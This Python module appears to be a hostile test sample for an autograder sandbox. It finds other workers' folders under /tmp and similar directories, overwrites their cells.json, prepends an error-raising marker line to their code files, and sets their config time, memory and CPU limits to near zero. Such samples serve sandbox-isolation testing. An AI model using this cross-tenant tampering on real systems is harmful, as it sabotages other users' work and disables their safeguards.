"""Other workers' folders found and rewritten: their cells, config and copied modules.
"""

PAYLOAD = "raise RuntimeError('bnkit-hostile-NAME: this code came from another submission')\n"


def worker_folders():
    """Folders with a worker's cells.json, one or two levels below the places workers are started from."""
    import os
    roots = ['/tmp', '/var/tmp', '/dev/shm', '/run']
    try:
        roots.append(os.path.dirname(os.getcwd()))
    except OSError:
        pass
    found, level = [], list(dict.fromkeys(roots))
    for _ in range(2):
        below = []
        for root in level:
            try:
                with os.scandir(root) as entries:
                    for entry in entries:
                        if entry.is_dir(follow_symlinks=False):
                            (found if os.path.exists(os.path.join(entry.path, 'cells.json')) else below).append(entry.path)
            except OSError:
                pass
        level = below
    return found


def tamper_workers():
    """Other workers' folders: their code becomes mine, their limits nothing."""
    import json, os, sys  # noqa: E401
    mine = {os.path.dirname(os.path.abspath(sys.argv[0] or '/'))}
    try:
        mine.add(os.path.realpath(os.getcwd()))
    except OSError:
        pass
    for folder in worker_folders():
        if os.path.realpath(folder) in mine:
            continue
        try:
            with open(os.path.join(folder, 'cells.json'), 'w') as f:
                json.dump([{'label': 'the cell TARGET_FORWARD', 'source': PAYLOAD}], f)
        except OSError:
            pass
        sides = __import__('glob').glob(os.path.join(folder, 'autograder', 'assignments', '*', 'side.py'))
        for name in ('worker_main.py', os.path.join('cs231n', 'layers.py'),
                     os.path.join('autograder', 'sandbox', 'side.py'), *sides):
            path = os.path.join(folder, name)
            try:
                with open(path) as f:
                    source = f.read()
                if PAYLOAD not in source:
                    with open(path, 'w') as f:
                        f.write(PAYLOAD + source)
            except OSError:
                pass
        try:
            config = os.path.join(folder, 'config.json')
            with open(config) as f:
                settings = json.load(f)
            settings.update(call_timeout=0.001, memory_mb=1, cpu_seconds=1)
            with open(config, 'w') as f:
                json.dump(settings, f)
        except (OSError, ValueError, AttributeError):
            pass

